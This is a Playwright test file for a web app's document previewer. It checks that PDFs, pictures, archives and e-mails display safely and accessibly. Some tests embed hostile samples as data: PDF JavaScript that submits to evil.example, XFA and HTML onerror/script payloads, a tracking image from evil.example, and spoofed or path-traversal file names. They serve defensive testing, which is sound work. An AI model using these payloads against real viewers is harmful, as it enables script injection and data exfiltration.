import { randomUUID } from "node:crypto";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import type { Page } from "playwright/test";
import { fromBufferPromise } from "yauzl";
import { ZipFile } from "yazl";
import { contactHref } from "@/lib/filter/url";
import { makePng } from "../../picture-heads";
import { openInbox } from "../inbox-contacts";
import { query, signInCookie, type TestStaff } from "../sign-in";
import { expect, findOverflow, findViolations, test } from "../signed-in";

const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
let ada: TestStaff;
let contact: string;

const bucket = `browser-${randomUUID()}`;
const folder = join(process.env.DOCUMENTS_DIR ?? "", bucket);

test.beforeEach(async ({ ada: signedIn }) => {
  ada = signedIn;
  mkdirSync(folder, { recursive: true });
  contact = randomUUID();
  await query(
    `insert into contact_submissions (id, name, email, message, "timestamp") values ($1, 'Mara', 'm@x.example', 'Hello', now())`,
    [contact],
  );
});
test.afterEach(async () => {
  await query("delete from contact_submissions where id = $1", [contact]);
  rmSync(folder, { recursive: true, force: true });
});

/** A document with a file, or without one where there is no content; gives its id. */
async function add(filename: string, content: string | Uint8Array | null): Promise<string> {
  const key = randomUUID();
  if (content !== null) writeFileSync(join(folder, key), content);
  const rows = await query<{ id: string }>(
    `insert into documents (contact_id, filename, size, content_type, document_type, upload_timestamp, s3_bucket, s3_key)
    values ($1, $2, 10, 'application/octet-stream', 'notes', now(), $3, $4) returning id`,
    [contact, filename, bucket, key],
  );
  return rows[0]?.id ?? "";
}

async function makePdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.TimesRoman);
  for (const words of ["Scope of the migration", "What we need to see first"]) {
    document.addPage([595, 842]).drawText(words, { font, x: 60, y: 700 });
  }
  return document.save();
}

/** A picture that is large enough to be cut in half. */
async function makePicture(page: Page): Promise<Buffer> {
  const data = await page.evaluate(() => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 200, height: 200 });
    const context = canvas.getContext("2d");
    for (let at = 0; context && at < 2_000; at++) {
      context.fillStyle = `hsl(${(at * 37) % 360} 80% 50%)`;
      context.fillRect((at * 7) % 200, (at * 13) % 200, 9, 5);
    }
    return canvas.toDataURL("image/png");
  });
  return Buffer.from(data.split(",")[1] ?? "", "base64");
}

async function preview(page: Page, name: string): Promise<void> {
  await page.goto(contactHref(contact));
  await page.getByRole("button", { name: `Preview ${name}` }).click();
}

test("a PDF is read page by page beside the message, and its text is there for a screen reader", async ({ page }) => {
  await add("scope.pdf", await makePdf());
  await preview(page, "scope.pdf");
  const viewer = page.getByRole("region", { name: "Preview of scope.pdf" });
  await expect(viewer.getByText("Page 1 of 2")).toBeVisible();
  await expect(viewer.getByText("Scope of the migration")).toBeAttached();
  const drawn = () =>
    viewer.locator("canvas").evaluate((canvas: HTMLCanvasElement) => {
      const { data } = canvas.getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
      return data.some((value, at) => at % 4 === 0 && value < 100);
    });
  await expect.poll(drawn).toBe(true);
  const width = async () => (await viewer.locator("canvas").boundingBox())?.width ?? 0;
  const fitting = await width();
  await viewer.getByRole("button", { name: "Zoom in" }).click();
  await expect(viewer.getByText("125 %")).toBeVisible();
  await page.keyboard.press("+");
  await page.keyboard.press("=");
  await expect(viewer.getByText("200 %")).toBeVisible();
  expect(Math.abs((await width()) - 2 * fitting)).toBeLessThan(2);
  // An enlarged page scrolls in its own place.
  expect(await findViolations(page)).toEqual([]);
  await page.keyboard.press("-");
  await expect(viewer.getByText("150 %")).toBeVisible();
  await page.keyboard.press("0");
  await expect(viewer.getByText("100 %")).toBeVisible();
  expect(await width()).toBe(fitting);
  await viewer.getByRole("button", { name: "Next page" }).click();
  await expect(viewer.getByText("Page 2 of 2")).toBeVisible();
  await expect(viewer.getByText("What we need to see first")).toBeAttached();
  await expect(viewer.getByRole("button", { name: "Next page" })).toBeDisabled();
  await expect(page.getByText("Hello", { exact: true })).toBeInViewport();
  expect(await findViolations(page)).toEqual([]);
  await page.getByRole("button", { name: "Hide scope.pdf" }).click();
  await expect(viewer).toHaveCount(0);
});

test("a PDF that was drawn in a wide window does not keep triage wide", async ({ page }) => {
  await add("scope.pdf", await makePdf());
  await query("update contact_submissions set service = $1 where id = $1", [contact]);
  await page.setViewportSize({ width: 600, height: 800 });
  await page.goto(`/triage?service=${contact}`);
  await page.getByRole("tabpanel").scrollIntoViewIfNeeded();
  const width = async () => (await page.getByRole("tabpanel").locator("canvas").boundingBox())?.width ?? 0;
  await expect.poll(width).toBeGreaterThan(500);
  await page.setViewportSize({ width: 320, height: 800 });
  await expect.poll(width).toBeLessThan(320);
  expect(await findOverflow(page)).toEqual([]);
});

test("a picture and a text are shown in frames where nothing runs, one at a time", async ({ page }) => {
  await add("diagram.png", png);
  await add("notes.html", "Call back on Monday: alert(1)");
  const frame = (name: string) => page.locator(`iframe[title="Preview of ${name}"]`);
  await preview(page, "diagram.png");
  const picture = frame("diagram.png").contentFrame().getByRole("img");
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  expect(await frame("diagram.png").getAttribute("sandbox")).toBe("allow-same-origin");
  await page.getByRole("button", { name: "Zoom in" }).click();
  // A picture of one pixel stays within its frame, and still grows.
  await expect
    .poll(() => picture.evaluate((image) => getComputedStyle(image).transform))
    .toBe("matrix(1.25, 0, 0, 1.25, 0, 0)");
  // Not asked of axe, which waits for ever for a frame in which nothing runs.
  expect(await findOverflow(page)).toEqual([]);
  await page.getByRole("button", { name: "Preview notes.html" }).click();
  await expect(frame("notes.html").contentFrame().getByText("Call back on Monday")).toBeVisible();
  expect(await frame("notes.html").getAttribute("sandbox")).toBe("");
  await expect(frame("diagram.png")).toHaveCount(0);
});

test("nothing in a PDF runs: neither its scripts, nor its form in XML, nor anything from elsewhere", async ({
  page,
}) => {
  const document = await PDFDocument.load(await makePdf());
  const context = document.context;
  const script = (text: string) => context.obj({ S: "JavaScript", JS: PDFString.of(text) });
  const attack = script("app.alert('run'); this.submitForm('https://evil.example'); document.title = 'run'");
  document.catalog.set(PDFName.of("OpenAction"), context.register(attack));
  document.getPage(0).node.set(PDFName.of("AA"), context.obj({ O: attack }));
  const names = context.obj({ JavaScript: { Names: [PDFString.of("run"), attack] } });
  document.catalog.set(PDFName.of("Names"), names);
  const field = document.getForm().createTextField("amount");
  field.addToPage(document.getPage(0), { x: 60, y: 600, width: 200, height: 20 });
  field.acroField.dict.set(PDFName.of("AA"), context.obj({ C: attack, F: attack, K: attack, V: attack }));
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="run()"/></body>
    </exData></subform></template></xdp:xdp>`;
  // Last, because pdf-lib removes it whenever it reads the form.
  document.catalog
    .lookup(PDFName.of("AcroForm"), PDFDict)
    .set(PDFName.of("XFA"), context.register(context.flateStream(xfa)));
  const bytes = await document.save({ updateFieldAppearances: false, useObjectStreams: false });
  expect(Buffer.from(bytes).includes("/XFA ")).toBe(true);
  await add("form.pdf", bytes);

  const asked: URL[] = [];
  const dialogs: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url())));
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const workers: string[] = [];
  page.on("worker", (worker) => workers.push(worker.url()));
  await preview(page, "form.pdf");
  const viewer = page.getByRole("region", { name: "Preview of form.pdf" });
  await expect(viewer.getByText("Scope of the migration")).toBeAttached();
  await viewer.getByRole("button", { name: "Next page" }).click();
  await expect(viewer.getByText("What we need to see first")).toBeAttached();

  expect(dialogs).toEqual([]);
  expect(await page.title()).not.toBe("run");
  const { origin } = new URL(page.url());
  expect(workers).toHaveLength(1);
  expect(workers[0]).toMatch(new RegExp(`^${origin}/_next/static/`));
  expect(asked.filter((url) => url.origin !== origin && url.protocol !== "data:")).toEqual([]);
  expect(asked.filter((url) => /quickjs|sandbox/.test(url.pathname))).toEqual([]);
  expect((await page.request.get("/pdfjs/wasm/quickjs-eval.wasm")).status()).toBe(404);
  expect((await page.request.get("/pdfjs/wasm/openjpeg.wasm")).status()).toBe(200);
});

test("a PDF's page that is absurdly long says so, and the others are read all the same", async ({ page }) => {
  const document = await PDFDocument.load(await makePdf());
  document.insertPage(1, [2, 14_400]);
  await add("roll.pdf", await document.save());
  await preview(page, "roll.pdf");
  const viewer = page.getByRole("region", { name: "Preview of roll.pdf" });
  await expect(viewer.getByText("Page 1 of 3")).toBeVisible();
  await viewer.getByRole("button", { name: "Next page" }).click();
  await expect(viewer.getByRole("alert")).toHaveText(/^This page is too long, wide or small to show here\./);
  await viewer.getByRole("button", { name: "Next page" }).click();
  await expect(viewer.getByText("What we need to see first")).toBeAttached();
  await expect(viewer.getByRole("alert")).toHaveCount(0);
});

test("a picture of too many pixels is offered as a download, and never comes to the browser", async ({ page }) => {
  await add("plan.png", makePng({ width: 30_000, height: 30_000 }));
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await preview(page, "plan.png");
  await expect(page.getByText("This picture has too many pixels to preview.")).toBeVisible();
  await expect(page.getByRole("link", { name: /^Download/ })).toBeVisible();
  expect(asked.filter((url) => /\/documents\/.*\?preview/.test(url))).toEqual([]);
});

test("a damaged picture says so in words, whether all of it is lost or a part", async ({ page }) => {
  const whole = await makePicture(page);
  await add("lost.png", Buffer.concat([whole.subarray(0, 33), Buffer.from("nothing of a picture follows here")]));
  await add("part.png", whole.subarray(0, whole.length / 2));
  await add("head.png", png.subarray(0, 20));
  await preview(page, "lost.png");
  await expect(page.getByText("This picture is damaged and can't be shown. Download it to look at it.")).toBeVisible();
  await page.getByRole("button", { name: "Preview part.png" }).click();
  await expect(page.getByText(/^This picture is damaged\. Only a part of it can be shown\.$/)).toBeVisible();
  await page.getByRole("button", { name: "Preview head.png" }).click();
  await expect(page.getByText("This picture is damaged and can't be shown. Download it to look at it.")).toBeVisible();
  await expect(page.getByRole("link", { name: "Download head.png" })).toBeVisible();
});

test("an archive shows its list and an e-mail its words, as text and nothing else", async ({ page }) => {
  const archive = new ZipFile();
  for (const name of ["plan/übersicht.pdf", "<img src=x onerror=alert(1)>.txt", "offer\u202efdp.exe", "👩🏽‍💻.txt"]) {
    archive.addBuffer(Buffer.from("x".repeat(2_000)), name);
  }
  archive.end();
  await add("plans.zip", await buffer(archive.outputStream));
  await add(
    "hello.eml",
    ["From: Mara <mara@x.example>", "To: Desk <d@x.example>", "Subject: <b>Hi</b>", "MIME-Version: 1.0"].join("\r\n") +
      "\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<script>document.title='run'</script><p>Hello <b>there</b></p><img src='https://evil.example/x'>",
  );
  const asked: URL[] = [];
  page.on("request", (request) => asked.push(new URL(request.url())));
  await preview(page, "plans.zip");
  const list = page.getByRole("region", { name: "Preview of plans.zip" });
  await expect(list.getByRole("listitem")).toHaveCount(4);
  await expect(list.getByText("plan/übersicht.pdf")).toBeVisible();
  await expect(list.getByText("<img src=x onerror=alert(1)>.txt")).toBeVisible();
  await expect(list.getByText("RLO")).toBeVisible();
  await expect(list.getByText("👩🏽‍💻.txt")).toBeVisible();
  expect(await findViolations(page)).toEqual([]);
  await page.getByRole("button", { name: "Preview hello.eml" }).click();
  const mail = page.getByRole("region", { name: "Preview of hello.eml" });
  await expect(mail.getByText("Mara <mara@x.example>")).toBeVisible();
  await expect(mail.getByText("<b>Hi</b>")).toBeVisible();
  await expect(mail.getByText(/Hello there/)).toBeVisible();
  expect(await findViolations(page)).toEqual([]);
  expect(await page.title()).not.toBe("run");
  expect(asked.filter(({ origin }) => origin !== new URL(page.url()).origin)).toEqual([]);
});

test("a text is read whatever its encoding and its first letters", async ({ page }) => {
  await add("letter.txt", Buffer.from("solid state drives: 40 pieces at 5\x80", "latin1"));
  await add("names.txt", "<Max> when can we talk?");
  await preview(page, "letter.txt");
  const frame = (name: string) => page.locator(`iframe[title="Preview of ${name}"]`).contentFrame();
  await expect(frame("letter.txt").getByText("solid state drives: 40 pieces at 5€")).toBeVisible();
  await page.getByRole("button", { name: "Preview names.txt" }).click();
  await expect(frame("names.txt").getByText("<Max> when can we talk?")).toBeVisible();
});

test("from the inbox's panel a document opens beside the message", async ({ page }) => {
  await add("scope.pdf", await makePdf());
  await openInbox(page, `/contacts?q=${contact.slice(0, 8)}&open=${contact}`);
  await page.getByRole("button", { name: "Preview scope.pdf" }).click();
  const viewer = page.getByRole("region", { name: "Preview of scope.pdf" });
  await expect(viewer.getByText("Scope of the migration")).toBeAttached();
  const panel = await page.getByRole("complementary", { name: "Open contact" }).boundingBox();
  const shown = await viewer.boundingBox();
  expect((shown?.x ?? 0) + (shown?.width ?? 0)).toBeLessThanOrEqual((panel?.x ?? 0) + 1);
  expect(await findViolations(page)).toEqual([]);
  await viewer.getByRole("button", { name: "Close preview" }).click();
  await expect(viewer).toHaveCount(0);

  await page.getByRole("button", { name: "Preview scope.pdf" }).click();
  await expect(viewer).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(viewer).toHaveCount(0);
  await expect(page).toHaveURL(/open=/);
  await page.keyboard.press("Escape");
  await expect(page).not.toHaveURL(/open=/);
});

test("what cannot be shown is said in a plain sentence", async ({ page }) => {
  await add("page.html", "<script>alert(1)</script>");
  await add("offer.docx", "PK\u0003\u0004 word");
  await add("scan.tif", Buffer.from("49492a0008000000000000000000", "hex"));
  await add("gone.pdf", null);
  await add("empty.txt", "");
  await add("damaged.pdf", "%PDF-1.7 and nothing more");
  await preview(page, "page.html");
  await expect(page.getByText("Web pages and vector drawings can contain programs")).toBeVisible();
  for (const [name, words] of [
    ["offer.docx", "This is a ZIP archive that is damaged."],
    ["scan.tif", "This is a TIFF picture. It has no preview. Download it to open it."],
    ["gone.pdf", "The file is missing from the store."],
    ["empty.txt", "The file is empty."],
    ["damaged.pdf", "This file is damaged and can't be shown."],
  ]) {
    await page.getByRole("button", { name: `Preview ${name}` }).click();
    await expect(page.getByText(words ?? "")).toBeVisible();
  }
});

test("documents are one line each, with their picture, their details when asked for, and all of them in one archive", async ({
  page,
}) => {
  await add("photo.png", await makePicture(page));
  await add("photo.png", png);
  await add("lost.png", "nothing of a picture");
  await add("gone.pdf", null);
  await page.goto(contactHref(contact));
  const documents = page.getByRole("region", { name: "Documents" });
  const lines = documents.getByRole("listitem");
  await expect(lines).toHaveCount(4);
  const heights = await lines.evaluateAll((all) => all.map((line) => line.getBoundingClientRect().height));
  expect(Math.max(...heights)).toBeLessThan(40);

  const drawn = (at: number) =>
    lines.nth(at).evaluate((line) => {
      const canvas = line.querySelector("canvas");
      const context = canvas?.getContext("2d");
      if (!canvas || !context || getComputedStyle(canvas).opacity === "0") return false;
      return context.getImageData(0, 0, canvas.width, canvas.height).data.some((value) => value > 0);
    });
  await expect.poll(() => drawn(0)).toBe(true);
  await expect.poll(() => drawn(1)).toBe(true);
  expect([await drawn(2), await drawn(3)]).toEqual([false, false]);

  const more = documents.getByRole("link", { name: "Open gone.pdf in a new tab" });
  await expect(more).toBeHidden();
  await documents.getByLabel("Details of gone.pdf").click();
  await expect(more).toBeVisible();
  await expect(lines.nth(3).getByText(/^Uploaded /)).toBeVisible();
  expect(await findViolations(page)).toEqual([]);

  const download = page.waitForEvent("download");
  await documents.getByRole("link", { name: "Download all (4)" }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe("Mara documents.zip");
  const archive = await fromBufferPromise(await buffer(await file.createReadStream()));
  const names: string[] = [];
  for await (const entry of archive.eachEntry()) names.push(entry.fileName);
  expect(names).toEqual(["photo.png", "photo (2).png", "lost.png", "Not included.txt"]);
});

test("a file is downloaded under a name without tricks", async ({ page }) => {
  await add("../offer\u202efdp.docx", "content");
  await page.goto(contactHref(contact));
  await expect(page.getByText("RLO")).toBeVisible();
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: /^Download/ }).click();
  expect((await download).suggestedFilename()).toBe("offerfdp.docx");
});

test("a file is for signed-in staff only, from the very request on which a session has ended", async ({
  page,
  playwright,
}) => {
  const id = await add("scope.txt", "for staff");
  const answer = await page.request.get(`/documents/${id}`);
  expect([answer.status(), await answer.text()]).toEqual([200, "for staff"]);
  expect(answer.headers()).toMatchObject({ "x-content-type-options": "nosniff", "cache-control": "private, no-store" });
  expect(answer.headers()["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);

  const stranger = await playwright.request.newContext({ baseURL: process.env.BASE_URL });
  const refused = await stranger.get(`/documents/${id}`);
  expect([refused.status(), await refused.text()]).toEqual([401, "Sign in to open documents.\n"]);
  await stranger.dispose();

  const { name, value, sessionId } = await signInCookie(ada.id);
  const cookie = `${name}=${value}`;
  const guest = await playwright.request.newContext({ baseURL: process.env.BASE_URL, extraHTTPHeaders: { cookie } });
  expect((await guest.get(`/documents/${id}`)).status()).toBe(200);
  await query("update staff_sessions set ended_at = now() where id = $1", [sessionId]);
  expect((await guest.get(`/documents/${id}`)).status()).toBe(401);
  await guest.dispose();
});
